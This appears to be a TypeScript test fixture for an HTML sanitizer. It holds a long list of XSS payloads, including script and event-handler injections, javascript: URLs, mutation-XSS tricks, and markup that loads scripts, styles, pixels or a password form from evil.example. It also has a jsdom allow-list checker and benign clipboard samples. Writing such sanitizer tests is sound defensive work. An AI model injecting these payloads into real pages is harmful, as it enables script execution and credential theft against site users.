import { JSDOM, VirtualConsole } from 'jsdom';

/** Ways to smuggle script, style, frames, forms or foreign pictures into a text. Each sets `pwned` or reaches elsewhere. */
export const hostileHtml: string[] = [
  '<script>pwned()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<script\u0009>pwned()</script\u000a>',
  '<script>pwned()',
  '<<script>pwned()//<</script>',
  '<img src=x onerror=pwned()>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/files/01890000-0000-7000-8000-000000000000/../../api/auth/sign-out">',
  '<img src="data:image/svg+xml,<svg onload=pwned()>">',
  '<img/src/onerror=pwned()>',
  '<img src=`x`onerror=pwned()>',
  '<img srcset="https://evil.example/a 1x" src="x">',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:pwned()"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=pwned()></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<textarea></p><img title="</textarea><img src=x onerror=pwned()>">',
  '<title><img title="</title><img src=x onerror=pwned()>"></title>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style><!--</style><img src=x onerror=pwned()>--></style>',
  '<template><img src=x onerror=pwned()></template>',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<button formaction="javascript:pwned()">Go</button>',
  '<isindex action="javascript:pwned()" type=image>',
  '<a href="javascript:pwned()">x</a>',
  '<a href=" javascript:pwned()">x</a>',
  '<a href="java\nscript:pwned()">x</a>',
  '<a href="java\u0009script:pwned()">x</a>',
  '<a href="&#106;avascript:pwned()">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:pwned()">x</a>',
  '<a href="JaVaScRiPt:pwned()">x</a>',
  '<a href="\u0001javascript:pwned()">x</a>',
  '<a href="data:text/html,<script>pwned()</script>">x</a>',
  '<a href="vbscript:pwned()">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https://good.example" onclick="pwned()" style="position:fixed;inset:0">x</a>',
  '<a href="https://good.example" target="_self" rel="opener">x</a>',
  '<p onmouseover="pwned()">x</p>',
  '<p style="background:url(javascript:pwned())">x</p>',
  '<p class="fixed inset-0" id="root">x</p>',
  '<p contenteditable onfocus=pwned() autofocus tabindex=1>x</p>',
  '<p/onclick=pwned()>x',
  '<table background="javascript:pwned()"><tr><td background="javascript:pwned()" onclick=pwned()>x</td></tr></table>',
  '<td colspan="2&quot; onclick=&quot;pwned()">x</td>',
  '<ol start="1&quot; onclick=&quot;pwned()"><li>x</li></ol>',
  '<blockquote cite="javascript:pwned()">x</blockquote>',
  '<details open ontoggle=pwned()><summary>x</summary></details>',
  '<marquee onstart=pwned()>x</marquee>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()></audio>',
  '<body onload=pwned()>',
  '<frameset onload=pwned()>',
  '<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp>',
  '<plaintext><script>pwned()</script>',
  '<listing>&lt;img onerror=pwned() src=x&gt;</listing>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '<!--><img src=x onerror=pwned()>-->',
  '<!--[if IE]><script>pwned()</script><![endif]-->',
  '<![CDATA[<img src=x onerror=pwned()>]]>',
  '<?xml-stylesheet href="javascript:pwned()"?>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned()</x:script>',
  '<p is="x-pwned">x</p><slot name=x></slot>',
  '\u003cimg src=x onerror=pwned()\u003e',
  '<img alt="`><img src=x onerror=pwned()>">',
  '"><script>pwned()</script>',
  "'-pwned()-'",
  '{{constructor.constructor("pwned()")()}}',
];

const tags = new Set(
  'p br h2 h3 h4 strong em s u code pre blockquote ul ol li a img hr table thead tbody tr th td'.split(' '),
);
const attributes: Record<string, RegExp> = {
  'a data-mention': /^[0-9a-f-]{36}$/,
  'a href': /^(https?:\/\/|mailto:|\/(?![/\\\s]))/,
  'a rel': /^noopener noreferrer nofollow ugc$/,
  'a target': /^_blank$/,
  'img src': /^\/files\/[0-9a-f-]{36}\/[\w-][\w.-]*$/,
  'img alt': /.*/s,
  'img width': /.*/s,
  'img height': /.*/s,
  'ol start': /.*/s,
  'th colspan': /.*/s,
  'td colspan': /.*/s,
  'th rowspan': /.*/s,
  'td rowspan': /.*/s,
};

/** What a browser would find in this HTML that does not belong there; empty for harmless HTML. */
export function findHarm(html: string): string[] {
  // A console of its own, so that broken style sheets in the samples are not reported.
  const { document } = new JSDOM(`<!doctype html><body><div id="here">${html}</div>`, {
    virtualConsole: new VirtualConsole(),
  }).window;
  const harm: string[] = [];
  if (document.body.children.length !== 1) harm.push('it leaves its place');
  for (const element of document.querySelectorAll('#here *')) {
    const tag = element.tagName.toLowerCase();
    if (!tags.has(tag)) harm.push(`<${tag}>`);
    for (const { name, value } of element.attributes) {
      if (!attributes[`${tag} ${name}`]?.test(value)) harm.push(`${tag} ${name}=${JSON.stringify(value)}`);
    }
  }
  return harm;
}

/** What a word processor puts on the clipboard. */
export const wordPaste = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator content="Word 15">
<style><!-- p.MsoNormal {margin:0cm;} --></style><!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--></head>
<body lang=EN-US><!--StartFragment--><h1>Plan</h1><h3 style='color:red'>Week one</h3>
<p class=MsoNormal><b><span style='font-size:14.0pt'>Bold</span></b> and <i>slanted</i><o:p></o:p></p>
<ol start=3 type=1><li class=MsoNormal>Third</li><li>Fourth</li></ol><ul><li>Point<ul><li>Below</li></ul></li></ul>
<table class=MsoTableGrid border=1><thead><tr><th colspan=2>Head</th></tr></thead><tbody><tr><td width=200><p>Cell</p></td><td>Two</td></tr></tbody></table>
<p><a href="https://example.org/a?b=c&amp;d=e" style="color:blue">A link</a></p><blockquote>Said</blockquote><pre>x &lt; y</pre>
<!--EndFragment--></body></html>`;

/** The same from an online document. */
export const docsPaste = `<meta charset='utf-8'><b style="font-weight:normal;" id="docs-internal-guid-1"><h2 dir="ltr"><span>Plan</span></h2>
<p dir="ltr" style="line-height:1.38"><span style="font-weight:700">Text</span> <a href="https://example.org/" style="text-decoration:none"><span>A link</span></a></p>
<ul><li dir="ltr" aria-level="1"><p role="presentation"><span>Point</span></p></li></ul>
<div dir="ltr" align="left"><table><colgroup><col width="100"/></colgroup><tbody><tr><td><p>Cell</p></td></tr></tbody></table></div></b><br class="Apple-interchange-newline">`;
